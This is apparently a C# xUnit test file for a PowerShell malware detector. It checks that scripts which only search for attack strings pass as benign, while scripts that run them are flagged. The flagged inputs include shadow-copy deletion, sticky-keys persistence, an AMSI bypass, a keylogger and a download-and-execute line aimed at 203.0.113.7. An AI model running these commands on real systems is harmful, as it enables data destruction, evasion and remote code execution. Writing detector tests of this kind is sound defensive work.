using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

/// <summary>Words of attacks that a script looks for are no deeds; the same words count where something runs them.</summary>
public sealed class SearchWordTests
{
    [Theory]
    [InlineData("$words = 'sekurlsa::logonpasswords','amsiInitFailed','vssadmin delete shadows'; $rx = [regex]::new(($words | % { [regex]::Escape($_) }) -join '|'); Get-WinEvent -LogName Security | ? { $rx.IsMatch($_.Message) }")]
    [InlineData("Select-String C:\\Logs\\*.log -Pattern 'New-MailboxExportRequest.+\\.aspx' | % { Write-Host $_.Path }")]
    [InlineData("Get-CimInstance Win32_Process | ? CommandLine -match '(stratum\\+tcp://|--donate-level|-o pool)' | Select-Object Name")]
    [InlineData("foreach ($a in 'sethc.exe','utilman.exe') { (Get-ItemProperty \"HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\$a\" -Name Debugger).Debugger }")]
    [InlineData("$key = [Text.Encoding]::ASCII.GetBytes('a'); $p = (New-Object Net.NetworkInformation.Ping).Send($ip,600)")]
    [InlineData("$c = 'sekurlsa::logonpasswords|comsvcs.dll.*MiniDump|vssadmin.*delete|IEX.*DownloadString|-enc [A-Za-z0-9+/]{60}'; $hits = @(); Get-CimInstance Win32_Process | ? { $_.CommandLine -match $c } | % { Stop-Process $_.ProcessId }; Get-ChildItem C:\\Users\\*\\h.txt | Select-String $c")]
    [InlineData("$bad = @{ Files = 'C:\\Users\\Public\\xmrig.exe'; Hosts = 'pool.example.invalid' }; Get-CimInstance Win32_Process | ? { $_.CommandLine -match 'stratum\\+tcp|xmrig' } | % { Stop-Process -Id $_.ProcessId -Force }; foreach ($f in $bad.Files) { Remove-Item $f -Force }")]
    [InlineData("Describe 'Detector' { . \"$PSScriptRoot\\D.ps1\"; $bad = @{ a = \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"; b = 'vssadmin delete shadows /all /quiet' }; foreach ($k in $bad.Keys) { It \"flags $k\" { (Test-Script -Text $bad[$k]).Verdict | Should -Be 'Malicious' } } }")]
    [InlineData("Describe 'E' { It 'round trips' -TestCases @(\n@{ Text = 'powershell -nop -w hidden -enc SQBFAFgA' }\n@{ Text = \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\" }\n) { param($Text) $Text | ConvertTo-EncodedCommand | ConvertFrom-EncodedCommand | Should -BeExactly $Text } }")]
    [InlineData("$f = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed', 'NonPublic,Static').GetValue($null); \"amsiInitFailed = $f\"")]
    [InlineData("$sb = { param($ip) ([regex]'<title>(.*?)</title>').Match((New-Object Net.WebClient).DownloadString(\"http://$ip/\")).Groups[1].Value }; $p = [powershell]::Create(); [void]$p.AddScript($sb).AddArgument('10.0.0.1'); $p.Invoke()")]
    [InlineData("Add-Type '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);' -Name K -Namespace N; while ($true) { if ([N.K]::GetAsyncKeyState(0x79) -band 1) { break }; if ([N.K]::GetAsyncKeyState(0x78) -band 1) { Set-Content C:\\d\\n.txt (Get-Date) }; Start-Sleep 1 }")]
    public void Looking_is_quiet(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);

    [Theory]
    [InlineData("$c = 'vssadmin delete shadows /all /quiet','wbadmin delete catalog -quiet'; $c | % { cmd /c $_ }")]
    [InlineData("'sethc.exe','utilman.exe' | % { New-ItemProperty \"HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\$_\" -Name Debugger -Value cmd.exe }")]
    [InlineData("$c = 'IEX (New-Object Net.WebClient).DownloadString(\"http://203.0.113.7/a\")'; if ($x -match $c) { 'seen' }; powershell -c $c")]
    [InlineData("Describe 'Detector' { $bad = @{ a = \"vssadmin delete shadows /all /quiet\"; b = 'wbadmin delete catalog -quiet' }; foreach ($k in $bad.Keys) { It \"flags $k\" { cmd /c $bad[$k] | Should -Be 'Malicious' } } }")]
    [InlineData("function It($n, $b) { iex $bad.a }; Describe 'D' { $bad = @{ a = \"vssadmin delete shadows /all /quiet\" }; It 'x' { Test-X $bad.a | Should -Be 1 } }")]
    [InlineData("$f = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed', 'NonPublic,Static'); $f.GetValue($null); $f.SetValue($null, $true)")]
    [InlineData("$sb = 'x'; $sb = (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a'); [void][powershell]::Create().AddScript($sb).Invoke()")]
    [InlineData("Add-Type '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);' -Name K -Namespace N; while ($true) { for ($i = 8; $i -lt 190; $i++) { if ([N.K]::GetAsyncKeyState($i) -band 1) { Add-Content C:\\d\\n.txt $i } }; Start-Sleep -m 40 }")]
    public void Lists_that_are_run_or_written_count(string script) => Assert.True(Deobfuscator.Judge(script).Malicious);
}
